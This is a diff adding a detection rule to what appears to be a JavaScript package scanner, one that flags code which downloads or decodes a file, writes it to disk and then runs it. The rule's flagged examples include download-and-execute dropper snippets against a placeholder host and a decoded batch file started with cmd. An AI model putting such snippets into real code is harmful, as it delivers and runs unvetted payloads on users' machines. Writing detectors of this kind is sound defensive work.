@@ -1,0 +1,95 @@
+import { defineRule, step, stepsOf } from '../src/define.js';
+import type { Call, FileContext, Label } from '../src/types.js';
+
+export default defineRule({
+  meta: {
+    summary: 'Writes a file it downloaded or decoded, and runs it',
+    why: 'A dropper keeps its payload out of the package. Installers of platform binaries download too, and check what came with `--version`; they unpack archives from their own releases, so an archive that is unpacked and not started is not flagged.',
+    behaviour: 'execution',
+    messages: {
+      downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
+      decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
+    },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a program is fetched into the temporary folder',
+        code: `const https = require('https'), fs = require('fs'), { exec } = require('child_process');\nconst out = fs.createWriteStream('/tmp/update');\nhttps.get('https://stage.invalid/update', res => {\n  res.pipe(out);\n  out.on('finish', () => exec('/tmp/update'));\n});`,
+      },
+      {
+        title: 'a script is written and handed to node',
+        code: `const axios = require('axios'), fs = require('fs'), path = require('path'), cp = require('child_process');\naxios.get('https://stage.invalid/x.js').then(r => {\n  const file = path.join(__dirname, 'x.js');\n  fs.writeFileSync(file, r.data);\n  cp.exec('node ' + file);\n});`,
+      },
+      {
+        title: 'a decoded script is',
+        code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.bat', Buffer.from(text, 'base64'));\ncp.spawn('cmd', ['/c', 'run.bat']);`,
+      },
+    ],
+    passes: [
+      { title: 'a download is only stored', code: `const fs = require('fs');\nrequire('https').get('https://a.invalid/x.zip', res => res.pipe(fs.createWriteStream('x.zip')));` },
+      { title: 'something else is started', code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t => fs.writeFileSync('data.json', t));\ncp.execSync('git status');` },
+    ],
+  },
+  file(context) {
+    const runs = context.calls('process');
+    if (runs.length === 0) return;
+    for (const { path, label, call } of drops(context)) {
+      const run = runs.find(one => one.args.some(arg => mentions(context, arg, path)));
+      if (!run) continue;
+      context.report({
+        messageId: label.kind === 'remote' ? 'downloaded' : 'decoded',
+        data: { source: label.detail, path: path.shown },
+        chain: [...stepsOf(label), step('transform', `writes it with ${call.name}`, context.file, call.node), step('sink', `runs it with ${run.name}`, context.file, run.node)],
+      });
+    }
+  },
+});
+
+interface Path {
+  readonly shown: string;
+  readonly texts: readonly string[];
+  /** The variables that hold it. */
+  readonly names: readonly string[];
+}
+
+interface Drop {
+  readonly path: Path;
+  readonly label: Label;
+  readonly call: Call;
+}
+
+const FOREIGN = new Set(['remote', 'decoded', 'decrypted']);
+
+function drops(context: FileContext): readonly Drop[] {
+  const found: Drop[] = [];
+  const streams = context.calls('write').filter(({ name }) => name.endsWith('createWriteStream'));
+  for (const call of context.calls('write')) {
+    const [target, data] = call.args;
+    const label = data && context.labelsOf(data).find(({ kind }) => FOREIGN.has(kind));
+    if (target && label) found.push({ path: pathOf(context, target), label, call });
+  }
+  // `response.pipe(stream)` and `stream.write(chunk)`.
+  for (const call of context.named(/\.(?:pipe|write|pipeline)$|^stream\.(?:promises\.)?pipeline$/)) {
+    const parts = [...call.args, ...(call.receiver ? [call.receiver] : [])];
+    const label = parts.flatMap(part => context.labelsOf(part)).find(({ kind }) => FOREIGN.has(kind));
+    const written = parts.some(part => context.namesOf(part).some(name => name.includes('createWriteStream')));
+    const stream = streams[0];
+    if (label && written && stream?.args[0]) found.push({ path: pathOf(context, stream.args[0]), label, call: stream });
+  }
+  return found;
+}
+
+function pathOf(context: FileContext, node: Call['args'][number]): Path {
+  const texts = context.textsOf(node).filter(text => text.replaceAll('…', '').length > 2);
+  return { shown: texts[0] ?? 'a file', texts, names: node.type === 'Identifier' ? [node.name] : [] };
+}
+
+/** True when a command runs the path: its text holds the file's name, or the same variable is in it. */
+function mentions(context: FileContext, node: Call['args'][number], path: Path): boolean {
+  const commands = context.textsWithin(node);
+  const bases = path.texts.map(text => text.slice(Math.max(text.lastIndexOf('/'), text.lastIndexOf('\\')) + 1)).filter(base => base.length > 3 && base !== '…');
+  if (bases.some(base => commands.some(command => command.includes(base)))) return true;
+  const written = context.file.text.slice(node.start ?? node.range?.[0], node.end ?? node.range?.[1]);
+  return written.length < 2_000 && path.names.some(name => new RegExp(`\\b${name.replaceAll('$', '\\$')}\\b`).test(written));
+}
